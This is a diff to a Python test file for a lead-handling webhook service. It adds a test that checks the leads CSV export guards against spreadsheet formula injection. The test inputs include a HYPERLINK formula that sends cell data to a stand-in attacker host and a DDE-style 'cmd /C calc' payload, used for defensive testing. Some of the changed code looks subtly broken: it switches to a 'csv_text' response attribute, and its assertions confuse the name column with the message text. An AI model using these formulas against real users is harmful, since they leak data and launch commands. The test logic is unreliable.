@@ -3,6 +3,8 @@ end: 8x8 posts inbound messages to the webhook, the worker asks the OpenAI
 stand-in and sends replies and pings through the 8x8 stand-in."""
 
 import concurrent.futures
+import csv as csv_module
+import io
 import hashlib
 import hmac
 import os
@@ -340,8 +342,8 @@ def test_claim_first_tap_wins_and_pages_escape(davinci, openai, eightx8):
     page = h.client.get("/blu8x8/leads").text
     assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)" in page
     csv = h.client.get("/blu8x8/leads.csv")
-    assert csv.text.splitlines()[0] == "id,created_at,name,phone,contact,claimed_by,claimed_at"
-    assert ",alice," in csv.text
+    assert csv.csv_text.splitlines()[0] == "id,created_at,name,phone,contact,claimed_by,claimed_at"
+    assert ",alice," in csv.csv_text
 
 
 def test_claim_link_checks(davinci, openai, eightx8):
@@ -406,3 +408,27 @@ def test_lead_without_agents_says_nobody_was_pinged(ai_server, openai, eightx8):
     assert wait_until(lambda: viber_sends(eightx8, "+639175550009"))    # the customer's reply still goes
     assert pings(eightx8) == []
     assert "nobody was pinged" in h.client.get("/blu8x8/leads").text
+
+
+# ------------------------------------------------------ CSV formula injection
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def test_leads_csv_guards_formulas_from_the_customer(davinci, openai, eightx8):
+    """A customer's Viber text and display name are theirs to choose: in
+    leads.csv they must not reach a spreadsheet as formulas."""
+    h = davinci
+    openai.reply_fn = intent_reply("Yes")
+    post_event(h, inbound(HOSTILE, phone="+639175550077", name="@SUM(1+1)*cmd|' /C calc'!A0"))
+    assert wait_until(lambda: len(leads(h)) == 1)
+    r = h.client.get("/blu8x8/leads.csv")
+    rows = list(csv_module.reader(io.StringIO(r.csv_text)))
+    assert rows[0] == ["id", "created_at", "name", "phone", "contact", "claimed_by", "claimed_at"]
+    row = rows[1]
+    assert row[2] == "'" + HOSTILE                         # the lead's text, guarded
+    assert row[3] == "+639175550077"                       # a phone stays a number
+    for cell in row:
+        assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
+    # The API still gives the text as it was.
+    assert leads(h)[0]["name"] == HOSTILE
